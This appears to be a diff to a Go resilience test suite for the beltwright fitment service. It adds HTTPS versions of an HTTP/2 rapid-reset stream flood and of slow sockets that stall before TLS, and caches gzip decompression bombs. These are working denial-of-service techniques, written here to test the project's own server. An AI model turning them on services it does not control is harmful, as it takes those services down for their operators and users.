@@ -68,6 +68,14 @@ func attacks() []attack {
 	}
 }
 
+// webAttacks are those on REST by HTTPS, where clients speak HTTP/2.
+func webAttacks() []attack {
+	return []attack{
+		{name: "streams opened and reset by HTTPS", small: 20_000, full: 1_000_000, run: rapidResetWeb},
+		{name: "sockets that say almost nothing before TLS", small: 200, full: 1_000, run: slowSocketsWeb, still: true},
+	}
+}
+
 // each runs something n times at once and waits for all.
 func each(n int, do func(i int)) {
 	var all sync.WaitGroup
@@ -81,6 +89,18 @@ func each(n int, do func(i int)) {
 // attacker two small frames and the server a handler. It goes on until all were sent,
 // or for a while where the server is slow to read them.
 func rapidReset(ctx context.Context, x target, size int) harm {
+	return x.resets(ctx, size, x.grpc, func(w *wire) (uint32, error) {
+		return w.call(w.headers("/beltwright.fitment.v1.FitmentService/ListDialects", x.key), false)
+	})
+}
+
+// rapidResetWeb is the same by HTTPS.
+func rapidResetWeb(ctx context.Context, x target, size int) harm {
+	return x.resets(ctx, size, x.rest, func(w *wire) (uint32, error) { return w.call(w.get("/v1/"+listing, x.key), true) })
+}
+
+// resets opens streams somewhere and resets them.
+func (x target) resets(ctx context.Context, size int, to string, open func(w *wire) (uint32, error)) harm {
 	const wires = 4
 	ctx, cancel := context.WithTimeout(ctx, sizedTime(2*time.Second, 60*time.Second))
 	defer cancel()
@@ -88,13 +108,13 @@ func rapidReset(ctx context.Context, x target, size int) harm {
 	most := x.threadsOfWork(done)
 	var sent atomic.Int64
 	each(wires, func(int) {
-		w, err := x.open(ctx, x.grpc, true)
+		w, err := x.open(ctx, to, true)
 		if err != nil {
 			return
 		}
 		defer w.close()
 		for range size / wires {
-			id, err := w.call(w.headers("/beltwright.fitment.v1.FitmentService/ListDialects", x.key), false)
+			id, err := open(w)
 			if err == nil {
 				err = w.frames.WriteRSTStream(id, http2.ErrCodeCancel)
 			}
@@ -177,13 +197,25 @@ const patience = 7 * time.Second
 
 // slowSockets opens sockets that say nothing, or a little again and again.
 func slowSockets(ctx context.Context, x target, size int) harm {
-	var open atomic.Int64
-	openings := []struct{ to, begin, drip string }{
+	return x.slowly(ctx, size, []opening{
 		{x.rest, "", ""},
 		{x.rest, "GET /v1/listings HTTP/1.1\r\nHost: x\r\n", "X-A: b\r\n"},
 		{x.grpc, "", ""},
 		{x.grpc, "PRI * HTTP/2.0\r\n", "\r"},
-	}
+	})
+}
+
+// slowSocketsWeb does so before a TLS connection is made: silence, or the beginning
+// of a record of 16 KiB (RFC 8446 §5.1) and then byte by byte.
+func slowSocketsWeb(ctx context.Context, x target, size int) harm {
+	return x.slowly(ctx, size, []opening{{x.rest, "", ""}, {x.rest, "\x16\x03\x01\x40\x00", "\x01"}})
+}
+
+// opening is where a slow socket goes and what it says: first, and again and again.
+type opening struct{ to, begin, drip string }
+
+func (x target) slowly(ctx context.Context, size int, openings []opening) harm {
+	var open atomic.Int64
 	end := time.Now().Add(patience)
 	each(size, func(i int) {
 		kind := openings[i%len(openings)]
@@ -311,8 +343,14 @@ func sizedTime(small, full time.Duration) time.Duration {
 	return time.Duration(sized(int(small), int(full)))
 }
 
+// bombs are made once for each size: packing them keeps a processor busy.
+var bombs sync.Map //nolint:gochecknoglobals // a cache
+
 // bomb is so many MiB of spaces, compressed about a thousandfold.
 func bomb(size int) []byte {
+	if made, ok := bombs.Load(size); ok {
+		return made.([]byte) //nolint:forcetypeassert // as stored
+	}
 	var packed bytes.Buffer
 	out, _ := gzip.NewWriterLevel(&packed, gzip.BestCompression) // the level exists
 	blank := bytes.Repeat([]byte{' '}, mebi)
@@ -320,6 +358,7 @@ func bomb(size int) []byte {
 		_, _ = out.Write(blank) // a buffer takes everything
 	}
 	_ = out.Close()
+	bombs.Store(size, packed.Bytes())
 	return packed.Bytes()
 }
 
